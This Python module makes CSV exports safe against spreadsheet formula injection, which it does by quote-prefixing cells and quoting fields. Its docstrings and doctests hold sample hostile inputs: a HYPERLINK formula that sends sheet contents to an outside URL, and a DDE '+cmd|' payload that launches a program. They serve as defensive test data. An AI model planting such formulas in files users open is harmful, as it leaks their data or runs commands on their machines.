"""CSV a person opens in a spreadsheet, with no formula left live (CWE-1236, OWASP "CSV Injection").

Run names, tags, corpus texts and SQL column names are typed by users or come from data files; a
spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, in some, a tab or carriage
return) as a formula, e.g. ``=HYPERLINK("http://…/?x="&A1,"x")`` sends the sheet away. Every CSV the app
writes goes through ``csv_bytes``: such a text cell gets a leading ``'`` and every text field is quoted.

Example:
    >>> import pandas as pd
    >>> print(csv_bytes(pd.DataFrame({"run": ["=1+1", "bm25"], "ndcg_at_10": [-0.5, 0.25]})).decode())
    "run","ndcg_at_10"
    "'=1+1",-0.5
    "bm25",0.25
    <BLANKLINE>
"""
from __future__ import annotations

import csv

import pandas as pd

# The first characters that make a spreadsheet read a cell as a formula (OWASP's list).
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: object) -> object:
    """``value`` with a ``'`` in front when it is text starting like a formula (``FORMULA_START``); any
    other value as it is. A spreadsheet shows the text without the quote and never evaluates it.

    Only text is changed: a number stays a number (``-0.5``), but text that reads like one (``"-1"``) gets
    the quote too, since a spreadsheet cannot tell ``-1`` from ``-1+cmd|…``.

    >>> safe_cell("=HYPERLINK(\\"http://x\\")"), safe_cell("@SUM(1+1)"), safe_cell("-1"), safe_cell("\\tx")
    ('\\'=HYPERLINK("http://x")', "'@SUM(1+1)", "'-1", "'\\tx")
    >>> safe_cell(-0.5), safe_cell("bm25 · demo"), safe_cell("a=b"), safe_cell(None)
    (-0.5, 'bm25 · demo', 'a=b', None)
    """
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells and column names pass through ``safe_cell``; numeric, boolean
    and date columns are left as they are (a negative score stays a number).

    >>> f = safe_frame(pd.DataFrame({"+tag": ["-x", "y"], "delta": [-0.1, 0.2]}))
    >>> f.columns.tolist(), f.values.tolist()
    (["'+tag", 'delta'], [["'-x", -0.1], ['y', 0.2]])
    """
    out = frame.copy()
    for i in range(out.shape[1]):
        column = out.iloc[:, i]
        if isinstance(column.dtype, pd.CategoricalDtype) or not (
                pd.api.types.is_numeric_dtype(column) or pd.api.types.is_datetime64_any_dtype(column)):
            # object columns may mix numbers and text: safe_cell changes only the text
            out.isetitem(i, column.astype(object).map(safe_cell))
    out.columns = [safe_cell(c) for c in out.columns]
    return out


def csv_bytes(frame: pd.DataFrame) -> bytes:
    """``frame`` as UTF-8 CSV without its index, formulas neutralised (``safe_frame``) and every text
    field in double quotes, so that a locale splitting on ``;`` or a tab cannot start a new cell inside
    one; numbers are written bare and stay numbers.

    >>> csv_bytes(pd.DataFrame({"tag": ["+cmd|' /C calc'!A0", "x;=1"], "n": [1, 2]}))
    b'"tag","n"\\n"\\'+cmd|\\' /C calc\\'!A0",1\\n"x;=1",2\\n'
    """
    return safe_frame(frame).to_csv(index=False, quoting=csv.QUOTE_NONNUMERIC).encode("utf-8")
